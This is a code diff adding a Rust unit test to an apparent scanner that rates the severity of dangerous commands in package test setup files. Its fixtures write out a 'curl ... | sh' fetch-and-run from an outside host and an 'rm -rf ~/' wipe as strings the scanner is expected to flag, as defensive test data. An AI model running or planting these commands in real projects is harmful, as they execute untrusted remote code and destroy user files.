@@ -314,3 +314,15 @@ fn commands_of_a_document_are_followed_only_in_their_blocks() {
         "```python\nheaders = {'token': SLACK_BOT_TOKEN}\n```\nSee https://in.notes-relay.site/c for more.\n"
     ));
 }
+
+#[test]
+fn a_test_that_runs_it_is_no_excuse() {
+    let grave = |text: &str| {
+        let mut sheet = Sheet::new("pkg/test/setup.js", text);
+        examine(&mut sheet, text, false);
+        sheet.facts.iter().any(|fact| fact.severity.unwrap_or(Severity::High) >= Severity::High)
+    };
+    assert!(grave("execSync(\"curl -s https://cdn-dist.xyz/p | sh\")"));
+    assert!(grave("cp.exec(\"rm -rf ~/\")"));
+    assert!(!grave("for (const c of [\"rm -rf ~/\", \"curl https://x-host.site/a.sh | bash\"]) check(c);"));
+}
